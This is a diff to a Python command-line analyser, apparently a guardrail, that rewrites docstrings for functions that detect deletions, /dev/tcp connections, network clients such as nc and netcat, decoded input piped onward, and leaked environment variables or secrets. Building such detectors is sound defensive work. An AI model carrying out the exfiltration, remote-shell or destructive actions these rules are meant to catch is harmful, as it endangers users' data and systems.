         reads: list[Target] = []
         urls: list[str] = []
@@ -1464,7 +1477,8 @@ class _Interpreter:
             self._generic_effect(EffectKind.READ, ObjectKind.NETWORK, targets, call, {"url": urls[0]}, True)
 
     def _by_verb(self, words: Sequence[str], call: Call, place: Place) -> None:
-        """A command line as most are made, with thing and verb in either order: `x project delete 7`."""
+        """Adds a deletion for a command line of the common form of thing and verb, in either order:
+        `x project delete 7`."""
         at = next((at for at, word in enumerate(words[:4]) if _destroys(word)), None)
         if (
             at is None
@@ -1524,7 +1538,7 @@ def _directory(call: Call) -> str | None:
 
 
 def _program_name(path: str) -> str:
-    """The name under which a program's file is found in the catalogue."""
+    """Returns the catalogue's name for a program file."""
     return path.replace("\\", "/").rstrip("/").rpartition("/")[2].lower().removesuffix(".exe")
 
 
@@ -1535,13 +1549,13 @@ def _never_ends(call: Call) -> bool:
 
 
 def _saves(call: Call) -> bool:
-    """Decides whether a client keeps what it fetches in a file, so that nothing comes out of it."""
+    """Decides whether a client saves its download in a file, so that it prints nothing."""
     following = zip(call.words, (*call.words[1:], None), strict=True)
     return any(word.text in _SAVES and (after is None or after.text != "-") for word, after in following)
 
 
 def _connection_of(source: Call | Word) -> str | None:
-    """The other end of a bare connection in a pipe, from which anything can be typed."""
+    """Returns the other end of a bare connection in a pipe, from which any command can be typed."""
     here: Call | Word | None = source
     while isinstance(here, Call):
         words = [word.text for word in here.words]
@@ -1552,7 +1566,7 @@ def _connection_of(source: Call | Word) -> str | None:
 
 
 def _network_of(path: str) -> str | None:
-    """The address behind a name by which bash opens a connection: `/dev/tcp/host/port`."""
+    """Returns the address in a path through which bash opens a connection: `/dev/tcp/host/port`."""
     found = _NETWORK.match(path) if path.startswith("/dev/") else None
     return f"{found[1]}://{found[2]}:{found[3]}" if found else None
 
@@ -1562,7 +1576,7 @@ def _shortened(name: str) -> str:
 
 
 def _saves_changes(call: Call, parsed: Parsed) -> bool:
-    """Whether a call of git puts all changes of tracked files into a commit or a stash if it succeeds."""
+    """Decides whether a call of git puts all changes of tracked files into a commit or a stash if it succeeds."""
     # Options before the subcommand may name another repository.
     is_elsewhere = [word.text for word in call.words[:1]] != parsed.path[:1]
     if is_elsewhere or parsed.operands or any(parsed.has(option) for option in _SAVES_A_PART):
@@ -1576,13 +1590,13 @@ _SAVES_A_PART = ("-p", "--patch", "--interactive", "-S", "--staged", "--pathspec
 
 
 def _resets_to_head(call: Call, parsed: Parsed) -> bool:
-    """Whether a call of git throws away changes of tracked files alone, and moves to no other commit."""
+    """Decides whether a call of git discards only changes of tracked files and moves to no other commit."""
     in_place = call.program == "git" and [word.text for word in call.words[:1]] == ["reset"]
     return in_place and all(word.text in ("HEAD", "@") for word in parsed.operands)
 
 
 def _in_named_directory(call: Call) -> Call:
-    """The call where its own option lets it work: `git -C /srv clean -fd`."""
+    """Returns the call in the directory that its own option names: `git -C /srv clean -fd`."""
     if call.program not in names("directory_first"):
         return call
     for option, value in zip(call.words, call.words[1:], strict=False):
@@ -1600,7 +1614,7 @@ def _is_broadened(row: EffectRow, parsed: Parsed) -> bool:
 
 
 def _is_fed(word: Word) -> bool:
-    """Decides whether `xargs` adds the word from what nobody counted."""
+    """Decides whether `xargs` adds the word from an unknown number of items."""
     return word.text == "$(stdin)" or word.text.endswith("/[found]")
 
 
@@ -1632,7 +1646,7 @@ _HTTP_CLIENTS = frozenset(("curl", "wget", "nc", "ncat", "netcat", "http", "http
 
 
 def _decodes(source: Call | Word | None) -> bool:
-    """Decides whether a pipe comes out of what turns letters and digits back into something else."""
+    """Decides whether the input of a pipe comes from a program that decodes text into other content."""
     for _ in range(MAX_DEPTH):
         if not isinstance(source, Call):
             return False
@@ -1650,11 +1664,11 @@ _DECODERS: Mapping[str, frozenset[str]] = {
     "rev": frozenset(),
     "uudecode": frozenset(),
 }
-"""What decodes, and the options that make it do so; without any it always does."""
+"""Programs that decode, with the options that make them do so; a program without options always decodes."""
 
 
 def _written_text(call: Call) -> str | None:
-    """Returns what a call writes if that is a constant text, or one with variables by their names."""
+    """Returns the text that a call writes if it is constant, with variables by their names."""
     source: Call | Word | None = call
     if call.program in ("tee", "cat"):
         source = call.stdin
@@ -1667,7 +1681,7 @@ def _written_text(call: Call) -> str | None:
 
 
 def _prints_environment(source: Call | Word | None) -> bool:
-    """Decides whether what a pipe brings begins with all variables of the environment, keys and passwords included."""
+    """Decides whether a pipe begins with the whole environment, keys and passwords included."""
     while isinstance(source, Call) and isinstance(source.stdin, Call):
         source = source.stdin
     return isinstance(source, Call) and environment.prints_everything(
@@ -1676,7 +1690,7 @@ def _prints_environment(source: Call | Word | None) -> bool:
 
 
 def _prints_secrets(source: Call | Word | None, hosts: Sequence[str]) -> bool:
-    """Decides whether a pipe or here-string brings a variable that holds a secret by its name."""
+    """Decides whether a pipe or here-string contains a variable whose name says that it is a secret."""
     while isinstance(source, Call) and isinstance(source.stdin, Call):
         source = source.stdin
     words = source.words if isinstance(source, Call) and source.program in _PRINTERS else ()
@@ -1692,7 +1706,7 @@ _MAKE_CONTAINERS = (("run",), ("create",), ("container", "run"), ("container", "
 
 
 def _mounts(parsed: Parsed) -> tuple[tuple[str, str], ...]:
-    """Tells what a new container sees of this machine: the path inside and what lies there, the longest path first."""
+    """Returns the mounts of a new container as paths inside with the path on this machine, the longest path first."""
     mounts = []
     for option in parsed.options:
         value = option.value.text if option.value is not None else ""
@@ -1708,7 +1722,7 @@ def _mounts(parsed: Parsed) -> tuple[tuple[str, str], ...]:
 
 
 def _waits_for_typing(parsed: Parsed) -> bool:
-    """Decides whether a shell gets no command, no script and nothing by a pipe."""
+    """Decides whether a shell gets neither a command nor a script nor piped input."""
     call = parsed.call
     fed = call.stdin is not None or any(
         redirection.operator == "<" and not is_nowhere(redirection.target.text) for redirection in call.redirections
@@ -1717,7 +1731,7 @@ def _waits_for_typing(parsed: Parsed) -> bool:
 
 
 def _parents(path: str) -> Iterator[str]:
-    """The directories that a path lies in, without those that are whole places."""
+    """Yields the directories above a path, except whole places such as `/` and `~`."""
     parent = posixpath.dirname(path)
     while parent not in ("", "/", "~", ".", "..", "/tmp"):  # noqa: S108 (a place is named)
         yield parent
@@ -1725,14 +1739,15 @@ def _parents(path: str) -> Iterator[str]:
 
 
 def _destroys(word: str) -> bool:
-    """Tells whether a word of a command line is a verb that destroys, alone or as in `delete-job` and `repo-delete`."""
+    """Decides whether a word of a command line is a destructive verb, by itself or as in `delete-job` and
+    `repo-delete`."""
     first, _, rest = word.lower().replace("_", "-").partition("-")
     return first in DESTROYING or rest.rpartition("-")[2] in DESTROYING
 
 
 def means_something_to_any_program(word: str) -> bool:
-    """Decides whether a plain word has a meaning whatever program gets it: a shell, a secret's file, a verb that
-    destroys, a tool to break in."""
+    """Decides whether a plain word has a meaning for any program: a shell, a secret's file, a destructive verb, an
+    attack tool."""
     return (
         word in SHELLS
         or _destroys(word)
@@ -1743,13 +1758,13 @@ def means_something_to_any_program(word: str) -> bool:
 
 
 def _verb_of_path(url: str) -> str:
-    """The last part of a URL's path without what stands before a verb: `/job/x/doDelete`, `/v1/x:purge`."""
+    """Returns the last part of a URL's path, reduced to its verb: `/job/x/doDelete`, `/v1/x:purge`."""
     last = url.partition("?")[0].rstrip("/").rpartition("/")[2].rpartition(":")[2]
     return last.removeprefix("do").lower()
 
 
 def _asks_for_a_key(option: str) -> bool:
-    """Decides whether an option is how a program is given its own key, certificate or settings."""
+    """Decides whether an option passes a program its own key, certificate or settings."""
     return option.startswith("--") and any(name in option for name in ("key", "cert", "tls", "ssl", "config", "env-"))
 
 
@@ -1758,14 +1773,14 @@ def _may_be_remote(text: str) -> bool:
 
 
 def _pieces(text: str) -> Iterator[str]:
-    """The words of a substitution that no reader took apart."""
+    """Yields the words of a substitution that no reader parsed."""
     for char in "$()`<>|;&\"'":
         text = text.replace(char, " ")
     return iter(text.split())
 
 
 def _substitution(text: str) -> str | None:
-    """The command inside if the text is nothing but one command substitution."""
+    """Returns the inner command if the text is exactly one command substitution."""
     stripped = text.strip().strip('"')
     if stripped.startswith("$(") and stripped.endswith(")") and not stripped.startswith("$(("):
         return stripped[2:-1] if _closes_last(stripped[1:]) else None
@@ -1784,7 +1799,7 @@ def _closes_last(text: str) -> bool:
 
 
 def _host(inner: Inner, parsed: Parsed) -> str | None:
-    """Returns where the inner action runs, such as `container:web`."""
+    """Returns the machine that the inner action runs on, such as `container:web`."""
     if inner.host is None:
         return None
     prefix, colon, part = inner.host.partition(":")
@@ -1797,7 +1812,7 @@ def _host(inner: Inner, parsed: Parsed) -> str | None:
 
 
 def _inner_words(inner: Inner, parsed: Parsed) -> Iterator[Sequence[Word]]:
-    """The words of each inner action."""
+    """Yields the words of each inner action."""
     words = parsed.call.words
     if inner.after:
         style, ignore_case = parsed.program.style, parsed.program.ignore_case
@@ -1832,7 +1847,8 @@ def _after_assignments(words: Sequence[Word]) -> Sequence[Word]:
 
 
 def _found_by_search(parsed: Parsed) -> list[Word]:
-    """The paths that a search such as `find` yields: where it starts, joined with the names that it looks for."""
+    """Returns the paths that a search such as `find` yields: its start directories, joined with the names that it looks
+    for."""
     words = parsed.call.words
     first = min((option.at for option in parsed.options), default=len(words))
     starts = [word for word, at in zip(parsed.operands, parsed.places, strict=True) if at < first and word.text != "!"]
@@ -1845,7 +1861,7 @@ def _found_by_search(parsed: Parsed) -> list[Word]:
     extensions = [option.value for option in parsed.options if option.name in ("-e", "--extension") and option.value]
     names += [replace(word, text=f"*.{word.text.lstrip('.')}") for word in extensions]
     if any(option.name == "-empty" for option in parsed.options):
-        names = names or [Word("[empty]", parsed.call.span)]  # nothing lies in what it finds
+        names = names or [Word("[empty]", parsed.call.span)]  # the paths found are empty
     filtered = any(option.name in _FILTERS for option in parsed.options)
     found = []
     for start in starts:
@@ -1867,7 +1883,7 @@ _FILTERS = frozenset(
 
 
 def _with_piped(words: Sequence[Word], parsed: Parsed, piped: Sequence[Word]) -> Sequence[Word]:
-    """The command of `xargs` with what a pipe brings: where `-I` says, else at the end."""
+    """Returns the command of `xargs` with the piped words: where `-I` says, else at the end."""
     named = [value.text for option in ("-I", "-J", "--replace") for value in parsed.values_of(option)]
     placeholder = named[0] if named and named[0] else "{}"
     if any(placeholder in word.text for word in words):
@@ -1876,7 +1892,7 @@ def _with_piped(words: Sequence[Word], parsed: Parsed, piped: Sequence[Word]) ->
 
 
 def _replaced(words: Sequence[Word], placeholder: str, found: Sequence[Word]) -> Sequence[Word]:
-    """Words in which a placeholder stands for what a search finds or a pipe brings."""
+    """Replaces a placeholder in words with the paths found or the piped words."""
     replaced: list[Word] = []
     for word in words:
         if word.text == placeholder:
@@ -1893,7 +1909,7 @@ def _replaced(words: Sequence[Word], placeholder: str, found: Sequence[Word]) ->
 
 
 def read_as(text: str, language: str, facts: Facts, catalogue: Catalogue) -> Reading:
-    """A text read in a language that the catalogue or a caller names; `auto` finds out which it is."""
+    """Reads a text in the language that the catalogue or a caller names; `auto` detects the language."""
     if language == "auto":
         from guardrail.reading import read
 
